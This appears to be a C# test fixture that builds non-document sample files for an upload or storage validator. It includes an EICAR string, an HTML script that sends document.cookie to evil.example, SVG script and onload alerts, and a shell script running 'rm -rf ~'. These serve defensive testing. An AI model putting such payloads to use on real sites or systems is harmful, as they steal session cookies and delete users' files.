using System.IO.Compression;
using System.Text;

namespace DossierFamille.Storage.Tests.Corpus;

/// <summary>Files that are not documents at all.</summary>
internal static class OtherSamples
{
    // Split so that no antivirus quarantines this source file.
    public static byte[] Eicar() => Encoding.ASCII.GetBytes(@"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");

    public static byte[] Html() => Encoding.UTF8.GetBytes("<!DOCTYPE html>\n<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>");

    public static byte[] SvgWithScript() => Encoding.UTF8.GetBytes(
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\" onload=\"alert(1)\"><script>alert(document.domain)</script></svg>");

    public static byte[] ShellScript() => Encoding.UTF8.GetBytes("#!/bin/sh\nrm -rf ~\n");

    public static byte[] Zip()
    {
        using var output = new MemoryStream();
        using (var archive = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = archive.CreateEntry("avis-imposition.pdf").Open();
            entry.Write(PdfSamples.Valid(1));
        }

        return output.ToArray();
    }

    public static byte[] Elf()
    {
        var elf = new byte[512];
        byte[] header = [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0];
        header.CopyTo(elf, 0);
        elf[16] = 2; // ET_EXEC
        elf[18] = 0x3E; // x86-64
        return elf;
    }

    public static byte[] LegacyOffice()
    {
        var doc = new byte[1024];
        byte[] header = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        header.CopyTo(doc, 0);
        return doc;
    }
}
